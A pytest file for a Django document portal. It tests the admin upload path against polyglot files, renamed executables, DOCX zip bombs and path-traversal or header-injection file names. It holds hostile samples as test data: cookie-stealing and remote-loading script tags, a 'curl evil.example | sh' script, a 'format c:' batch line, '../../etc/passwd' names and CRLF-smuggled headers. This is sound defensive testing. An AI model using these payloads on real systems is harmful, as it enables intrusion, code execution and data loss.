"""Upload attacks through the one real upload path: the curator's document form in the admin
(add and change). A hostile file is refused with a Dutch reason in the form and nothing is
stored, or it is neutralised: kept under a random name inside the private storage, served
only as an attachment with the type found in its content, a clean download name, nosniff
and a sandbox. Nothing is ever written outside the private storage.

The content checks themselves are unit-tested in tests/knowledge/test_uploads.py; this file
goes through HTTP, the form, the storage and the download."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from documents.models import Document
from documents.storage import PrivateStorage
from documents.uploads import extract_text
from tests.factories import OrganisationFactory, partner
from tests.samples import DOCX, sample
from tests.samples import PDF as PDF_NAME

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
STORED_NAME = re.compile(r"documenten/[0-9a-f]{32}")
SAFE_DOWNLOAD = re.compile(r'attachment; filename="([A-Za-z0-9._-]{1,100})"')
NOT_ALLOWED = "Dit type bestand is niet toegestaan."
UNSAFE = "Het bestand is geweigerd omdat het een onveilig archief is"


@pytest.fixture
def curator(client):
    owner = OrganisationFactory(name="LIEC", domains=["liec.nl"])
    reader_org = OrganisationFactory(name="Gemeente A", domains=["a.nl"])
    reader = partner(reader_org, email="lezer@a.nl")
    client.force_login(partner(owner, email="redacteur@liec.nl", is_staff=True, is_superuser=True))
    return {"owner": owner, "reader_org": reader_org, "reader": reader}


@pytest.fixture
def private_files():
    """The files this test added to the private storage (InMemoryStorage in the test
    settings, which keeps the files of earlier tests)."""
    storage = Document._meta.get_field("file").storage
    before = set(_walk(storage, ""))

    def listing():
        return sorted(set(_walk(storage, "")) - before)

    return listing


def _walk(storage, path):
    directories, files = storage.listdir(path)
    for name in files:
        yield f"{path}/{name}".lstrip("/")
    for directory in directories:
        yield from _walk(storage, f"{path}/{directory}".lstrip("/"))


def upload(client, curator, name, content, document=None, **extra):
    data = {
        "title": "Aangeleverd document",
        "summary": "Samenvatting",
        "owner": curator["owner"].pk,
        "status": "published",
        "published_at_0": "2026-01-01",
        "published_at_1": "10:00:00",
        "organisations": [curator["reader_org"].pk],
        "file": SimpleUploadedFile(name, content, content_type="application/pdf"),  # what a browser claims
        **extra,
    }
    url = f"/admin/documents/document/{document.pk}/change/" if document else "/admin/documents/document/add/"
    return client.post(url, data)


def assert_refused(response, reason, private_files):
    assert response.status_code == 200
    page = response.content.decode()
    assert reason in page
    assert 'value="Aangeleverd document"' in page  # what was typed stays
    assert Document.objects.filter(title="Aangeleverd document").count() == 0
    assert private_files() == []


def download(client, curator, document):
    client.force_login(curator["reader"])
    response = client.get(f"/besloten/documenten/{document.pk}/download/")
    assert response.status_code == 200
    return response


def assert_neutralised(response, client, curator, private_files, kind, content_type):
    """Stored under a random name in the private storage; served as a download of the type
    found in its content, with a clean name, nosniff and a sandbox."""
    assert response.status_code == 302, re.findall(r"errorlist.{0,300}", response.content.decode(), re.S)
    document = Document.objects.get(title="Aangeleverd document")
    assert STORED_NAME.fullmatch(document.file.name)
    assert private_files() == [document.file.name]
    assert document.content_type == content_type
    served = download(client, curator, document)
    assert served["Content-Type"] == content_type
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]
    filename = SAFE_DOWNLOAD.fullmatch(served["Content-Disposition"]).group(1)
    assert filename.endswith(f".{kind}")
    assert not filename.startswith(".")
    return document, filename


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(extra=None):
    base = sample(DOCX)
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members.update(extra or {})
    return zip_bytes(members)


PDF = sample(PDF_NAME)


# Polyglots -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("rapport.pdf", b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script>", NOT_ALLOWED),
        ("rapport.pdf", b"%PDF-1.4\n%\xe2\xe3\n<SCRIPT src=//evil.example/x.js></SCRIPT>\n" + PDF[9:], NOT_ALLOWED),
        # GIFAR: a GIF header with a Java archive behind it.
        ("plaatje.pdf", b"GIF89a\x01\x00\x01\x00\x00\x00;" + zip_bytes({"META-INF/MANIFEST.MF": b"x"}), NOT_ALLOWED),
        # A ZIP (a JAR) with a PDF inside, named .pdf or .docx.
        ("rapport.pdf", zip_bytes({"rapport.pdf": PDF, "Main.class": b"\xca\xfe\xba\xbe"}), NOT_ALLOWED),
        ("rapport.docx", zip_bytes({"[Content_Types].xml": b"<Types/>", "evil.html": b"<script>"}), NOT_ALLOWED),
        # HTML with a PDF header further down: the start decides, and it is markup.
        ("rapport.pdf", b"<html><script>alert(1)</script></html>\n%PDF-1.4\n", NOT_ALLOWED),
        # SVG and XML are refused whatever the name.
        ("rapport.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', NOT_ALLOWED),
    ],
    ids=["pdf-html", "pdf-script-tag", "gifar", "jar-as-pdf", "zip-as-docx", "html-then-pdf", "svg-as-txt"],
)
def test_polyglots_are_refused_with_a_reason(client, curator, private_files, name, content, reason):
    assert_refused(upload(client, curator, name, content), reason, private_files)


def test_a_pdf_with_a_zip_behind_it_is_only_ever_served_as_a_pdf(client, curator, private_files):
    # A PDF/ZIP polyglot is a valid PDF: accepted, but only as what it is, an attachment.
    content = PDF + zip_bytes({"payload.html": b"<script>alert(1)</script>" * 50})
    response = upload(client, curator, "rapport.html", content)
    document, filename = assert_neutralised(response, client, curator, private_files, "pdf", "application/pdf")
    assert filename == "rapport.pdf"  # never .html, whatever the name said


def test_markup_deep_inside_a_pdf_is_served_without_sniffing(client, curator, private_files):
    # Past the first kilobyte no browser sniffs; the download headers forbid it anyway.
    content = b"%PDF-1.4\n" + b"%" + b"x" * 2000 + b"\n<html><script>alert(1)</script></html>\n" + PDF[9:]
    response = upload(client, curator, "rapport.pdf", content)
    assert_neutralised(response, client, curator, private_files, "pdf", "application/pdf")


# Renamed executables ---------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 44 + b"\x80\x00\x00\x00"
PE += b"\x00" * 64 + b"PE\x00\x00"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("rapport.pdf", ELF),
        ("rapport.docx", ELF),
        ("rapport.pdf", PE),
        ("rapport.docx", PE),
        ("notulen.pdf", SCRIPT),
        ("notulen.txt", SCRIPT),
        ("notulen.docx", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"),
        ("rapport.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500),  # OLE2: .doc, .msi
        ("rapport.pdf", b"\x00asm\x01\x00\x00\x00"),  # WebAssembly
    ],
    ids=["elf-pdf", "elf-docx", "pe-pdf", "pe-docx", "sh-pdf", "sh-txt", "python-docx", "ole2-docx", "wasm-pdf"],
)
def test_renamed_executables_are_refused_with_a_reason(client, curator, private_files, name, content):
    response = upload(client, curator, name, content)
    assert_refused(response, NOT_ALLOWED, private_files)
    assert "Toegestaan zijn: PDF, Word (DOCX)" in response.content.decode()


def test_a_text_file_named_exe_is_kept_as_text_and_downloaded_as_txt(client, curator, private_files):
    response = upload(client, curator, "installeer.exe", b"@echo off\r\nformat c: /q\r\n")
    _document, filename = assert_neutralised(response, client, curator, private_files, "txt", "text/plain")
    assert filename == "installeer.txt"


def test_replacing_the_file_of_a_document_is_checked_the_same_way(client, curator, private_files):
    assert upload(client, curator, "rapport.pdf", PDF).status_code == 302
    document = Document.objects.get()
    before = private_files()

    response = upload(client, curator, "rapport.pdf", ELF, document=document)

    assert response.status_code == 200
    assert NOT_ALLOWED in response.content.decode()
    document.refresh_from_db()
    assert document.content_type == "application/pdf"
    assert private_files() == before


# DOCX zip bombs --------------------------------------------------------------------------------


def test_a_docx_with_a_hugely_compressed_member_is_refused(client, curator, private_files):
    content = docx({"word/media/image1.png": b"\x00" * (30 * MB)})
    assert len(content) < MB
    response = upload(client, curator, "bom.docx", content)
    assert_refused(response, UNSAFE, private_files)
    assert "extreem sterk ingepakt" in response.content.decode()


def test_a_docx_with_very_many_members_is_refused(client, curator, private_files):
    content = docx({f"word/media/m{i}.xml": b"" for i in range(10_001)})
    response = upload(client, curator, "veel.docx", content)
    assert_refused(response, UNSAFE, private_files)
    assert "te veel onderdelen" in response.content.decode()


def test_a_docx_that_unpacks_to_far_more_than_the_upload_limit_is_refused(client, curator, private_files, settings):
    settings.KPO_MAX_UPLOAD_SIZE = 200 * 1024
    # Each member compresses well under the ratio rule's threshold; together over 20 × the limit.
    content = docx({f"word/part{i}.xml": bytes(range(256)) * 360 for i in range(50)})
    response = upload(client, curator, "groot.docx", content)
    assert_refused(response, UNSAFE, private_files)
    assert "veel te groot" in response.content.decode()


def test_a_nested_zip_bomb_is_refused_when_it_still_compresses(client, curator, private_files):
    inner = zip_bytes({"laag.bin": b"\x00" * (2 * MB)}, compression=zipfile.ZIP_STORED)
    response = upload(client, curator, "genest.docx", docx({"word/embeddings/oleObject1.zip": inner}))
    assert_refused(response, UNSAFE, private_files)


def test_a_nested_zip_bomb_stored_as_is_is_kept_but_never_unpacked(client, curator, private_files):
    # Stored without compression, the inner archive looks harmless to the outer checks.
    # Nothing ever opens it: only word/document.xml is read for the search index.
    inner = zip_bytes({f"laag{i}.bin": b"\x00" * (10 * MB) for i in range(3)})
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/embeddings/oleObject1.zip", inner, compress_type=zipfile.ZIP_STORED)
    response = upload(client, curator, "genest.docx", out.getvalue())
    document, _filename = assert_neutralised(
        response,
        client,
        curator,
        private_files,
        "docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    )
    document.refresh_from_db()
    # The text of the plain DOCX, nothing from the embedded archive.
    assert document.extracted_text == extract_text(io.BytesIO(sample(DOCX)), "docx")
    assert document.extracted_text.startswith("Werkinstructie Bibob-toets horeca\n")


# Path tricks in file names ---------------------------------------------------------------------

TRICKY_NAMES = [
    "../../etc/passwd.pdf",
    "../../../../../../tmp/kpo-uitbraak.pdf",
    "/etc/passwd.pdf",
    "C:\\Windows\\System32\\evil.pdf",
    "..\\..\\..\\evil.pdf",
    "rapport\x00.html.pdf",
    "a" * 180 + ".pdf",
    "．．／．．／etc／passwd.pdf",  # full-width dots and slashes
    "раррогт.pdf",  # Cyrillic look-alikes
    "rapport\u202efdp.exe",  # right-to-left override: shows as "rapportexe.pdf"
    'x"; filename="evil.html',
    "x\r\nSet-Cookie: kpo=1.pdf",
    ".htaccess",
]


@pytest.mark.parametrize("name", TRICKY_NAMES)
def test_tricky_file_names_are_neutralised(client, curator, private_files, name):
    response = upload(client, curator, name, PDF)

    _document, filename = assert_neutralised(response, client, curator, private_files, "pdf", "application/pdf")
    assert ".." not in filename.removesuffix(".pdf")
    assert len(filename) <= 100


def test_a_file_name_longer_than_the_form_takes_is_refused_with_a_reason(client, curator, private_files):
    response = upload(client, curator, "a" * 300 + ".pdf", PDF)
    assert_refused(response, "niet meer dan 200 tekens", private_files)


def test_tricky_names_never_write_outside_the_private_folder(client, curator, tmp_path, settings, monkeypatch):
    """With the production storage class on a real disk: every file lands in
    <private>/documenten/<random>, whatever the name."""
    private = tmp_path / "data" / "kpo" / "private"
    settings.STORAGES = {
        **settings.STORAGES,
        "private": {"BACKEND": "documents.storage.PrivateStorage", "OPTIONS": {"location": str(private)}},
    }
    # The field took its storage when the model was defined; give it the one on disk.
    monkeypatch.setattr(Document._meta.get_field("file"), "storage", PrivateStorage(location=str(private)))

    for i, name in enumerate(TRICKY_NAMES):
        response = upload(client, curator, name, PDF, title=f"Document {i}")
        assert response.status_code == 302, name

    written = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    assert len(written) == len(TRICKY_NAMES)
    for path in written:
        assert path.parent == private / "documenten"
        assert re.fullmatch(r"[0-9a-f]{32}", path.name)
    for document in Document.objects.all():
        assert (private / document.file.name).is_file()
        assert download(client, curator, document).getvalue() == PDF
